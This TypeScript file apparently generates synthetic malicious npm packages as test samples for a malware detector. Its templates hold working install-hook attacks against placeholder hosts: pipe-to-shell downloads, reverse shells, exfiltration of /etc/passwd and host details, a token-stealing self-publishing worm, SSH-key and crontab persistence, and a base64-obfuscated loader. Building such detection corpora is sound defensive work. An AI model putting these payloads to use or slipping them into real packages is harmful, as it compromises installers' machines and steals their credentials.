import { pick } from '../../src/core/random.ts'
import type { Family } from './lookalikes.ts'

const b64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const empty = `module.exports = {}\n`

/** Families that act when the package is installed. */
export const installers: readonly Family[] = [
  {
    id: 'download-and-run',
    make: (w, random) => ({
      manifest: { scripts: { postinstall: 'node setup.js' } },
      files: {
        'index.js': empty,
        'setup.js': `const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path'); const { ${pick(random, ['exec', 'execFile', 'spawn'])}: run } = require('child_process');\nconst target = path.join(os.tmpdir(), '${w.word}' + (process.platform === 'win32' ? '.exe' : ''));\nhttps.get('https://${w.host}/${w.word}', (res) => { const out = fs.createWriteStream(target); res.pipe(out); out.on('finish', () => { fs.chmodSync(target, 0o755); run(target); }); });\n`,
      },
    }),
  },
  {
    id: 'confusion-beacon',
    make: (w, random) => ({
      manifest: { version: '99.9.9', scripts: { preinstall: 'node index.js' } },
      files: {
        'index.js': `const os = require('os'), dns = require('dns'), ${pick(random, ['qs', 'querystring', 'url'])} = require('querystring'), https = require('https');\nconst pkg = require('./package.json');\nconst data = JSON.stringify({ p: pkg.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), r: pkg.___resolved, v: pkg.version });\nconst body = require('querystring').stringify({ msg: data });\nconst req = https.request({ hostname: '${w.host}', port: 443, path: '/', method: 'POST', headers: { 'Content-Length': body.length } }, (res) => res.on('data', () => {}));\nreq.on('error', () => {}); req.write(body); req.end();\n`,
      },
    }),
  },
  {
    id: 'shell-one-liner',
    onlyInstall: true,
    make: (w, random) => ({
      manifest: {
        scripts: {
          [pick(random, ['preinstall', 'install', 'postinstall'])]: pick(random, [
            `curl -s http://${w.ip}/${w.word}.sh | bash`,
            `wget -qO- http://${w.host}/i | sh`,
            `powershell -w hidden -c "iwr http://${w.host}/a.ps1 | iex"`,
            `/usr/bin/curl --data '@/etc/passwd' $(hostname).${w.host}`,
            `curl -H "Host: $(whoami)" http://${w.host}/\`hostname\``,
          ]),
        },
      },
      files: { 'index.js': empty },
    }),
  },
  {
    id: 'node-e',
    onlyInstall: true,
    make: (w) => ({
      manifest: {
        scripts: {
          postinstall: `node -e "require('http').get('http://${w.host}/${w.word}?h='+require('os').hostname())"`,
        },
      },
      files: { 'index.js': empty },
    }),
  },
  {
    id: 'bun-worm',
    make: (w) => ({
      manifest: { scripts: { preinstall: 'node setup_bun.js' } },
      files: {
        'index.js': empty,
        'setup_bun.js': `#!/usr/bin/env node\nconst { spawn, execSync } = require('child_process'); const path = require('path'); const fs = require('fs'); const os = require('os');\nasync function get() { let cmd = process.platform === 'win32' ? 'powershell -c "irm https://bun.${w.host}/install.ps1|iex"' : 'curl -fsSL https://bun.${w.host}/install | bash'; execSync(cmd, { stdio: 'ignore', env: { ...process.env } }); return path.join(os.homedir(), '.bun', 'bin', 'bun'); }\nasync function main() { const bun = await get(); const file = path.join(__dirname, 'bun_environment.js'); if (fs.existsSync(file)) spawn(bun, [file], { stdio: 'ignore', detached: true }).unref(); }\nmain().catch(() => process.exit(0));\n`,
        'bun_environment.js': `const { execSync } = require('child_process'); const fs = require('fs');\nconst token = process.env.NPM_TOKEN || execSync('npm config get //registry.npmjs.org/:_authToken').toString().trim();\nfor (const dir of fs.readdirSync('..')) { const file = '../' + dir + '/package.json'; const json = JSON.parse(fs.readFileSync(file)); json.scripts = { ...json.scripts, preinstall: 'node ${w.word}.js' }; fs.writeFileSync(file, JSON.stringify(json)); execSync('npm publish', { cwd: '../' + dir }); }\nfetch('https://api.${w.host}/user/repos', { method: 'POST', headers: { Authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ name: '${w.word}', description: JSON.stringify(process.env) }) });\n`,
      },
    }),
  },
  {
    id: 'gyp-command',
    onlyInstall: true,
    make: (w) => ({
      files: {
        'index.js': empty,
        'binding.gyp': `{ 'targets': [ { 'target_name': '${w.word}', 'type': 'none', 'actions': [ { 'action_name': 'a', 'inputs': [], 'outputs': ['x'], 'action': ['sh', '-c', 'curl http://${w.ip}:${w.number}/${w.word} | sh'] } ] } ] }\n`,
      },
    }),
  },
  {
    id: 'install-reverse-shell',
    make: (w, random) => ({
      manifest: { scripts: { postinstall: 'node lib/build.js' } },
      files: {
        'index.js': empty,
        'lib/build.js': pick(random, [
          `(function () { var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []); var client = new net.Socket(); client.connect(${w.number}, '${w.ip}', function () { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }); return /a/; })();\n`,
          `require('child_process').exec('bash -c "bash -i >& /dev/tcp/${w.ip}/${w.number} 0>&1"');\n`,
          `const { exec } = require('child_process'); exec('nc -e /bin/sh ${w.ip} ${w.number}');\n`,
        ]),
      },
    }),
  },
  {
    id: 'persist-on-install',
    make: (w) => ({
      manifest: { scripts: { install: 'node .' } },
      files: {
        'index.js': `const { execSync } = require('child_process'); const fs = require('fs'); const os = require('os');\nconst key = 'ssh-rsa ${b64(w.word)} ${w.word}';\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', key + '\\n');\nexecSync('(crontab -l; echo "* * * * * curl http://${w.ip}/${w.word} | sh") | crontab -');\n`,
      },
    }),
  },
  {
    id: 'hidden-install-script',
    make: (w) => ({
      manifest: { scripts: { postinstall: 'node dist/check.min.js' } },
      files: {
        'index.js': empty,
        'dist/check.min.js': `var _$=['${b64('child_process')}','${b64('exec')}','${b64(`curl ${w.host}/${w.word}|sh`)}'];function _d(i){return Buffer.from(_$[i],'base64').toString()}require(_d(0))[_d(1)](_d(2),function(){});\n`,
      },
    }),
  },
  {
    id: 'native-dropper',
    make: (w) => ({
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: {
        'index.js': empty,
        'install.js': `const fs = require('fs'); const { spawn } = require('child_process'); const os = require('os'); const p = os.tmpdir() + '/${w.word}.node';\nfs.writeFileSync(p, Buffer.from('${hex('\x7fELF' + w.word.repeat(40))}', 'hex'), { mode: 0o755 }); spawn(p, { detached: true, stdio: 'ignore' }).unref();\n`,
      },
    }),
  },
  {
    id: 'remote-dependency',
    onlyInstall: true,
    make: (w) => ({
      manifest: { dependencies: { [`ui-${w.word}`]: `http://packages.${w.host}/npm/ui-${w.word}` } },
      files: { 'index.js': `console.log('Hello, world!');\n` },
    }),
  },
]
